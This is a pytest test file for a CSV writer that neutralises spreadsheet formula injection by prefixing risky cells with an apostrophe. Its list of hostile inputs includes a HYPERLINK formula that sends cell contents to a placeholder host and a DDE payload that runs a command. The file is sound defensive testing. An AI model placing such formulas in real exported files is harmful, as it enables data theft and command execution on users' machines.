"""The formula-safe CSV writer: a spreadsheet opens every cell as text, never as a formula."""

import csv
import io
from decimal import Decimal

import pytest

from portal.lib import csvsafe

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"Pay")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(value):
    out = io.StringIO()
    csvsafe.writer(out).writerow(["name", value])
    [[label, cell]] = read(out.getvalue())
    assert label == "name"
    assert cell == "'" + value


def test_numbers_and_ordinary_text_are_written_as_they_are():
    out = io.StringIO()
    csvsafe.writer(out).writerow([Decimal("-12.50"), -3, "-4.25", "+7", "Acme, Inc.", "", None])
    assert read(out.getvalue()) == [["-12.50", "-3", "-4.25", "+7", "Acme, Inc.", "", ""]]


def test_streamed_rows_are_neutralised_too():
    lines = list(csvsafe.stream([["a", "=1+1"], ["@x", 2]]))
    assert read("".join(lines)) == [["a", "'=1+1"], ["'@x", "2"]]
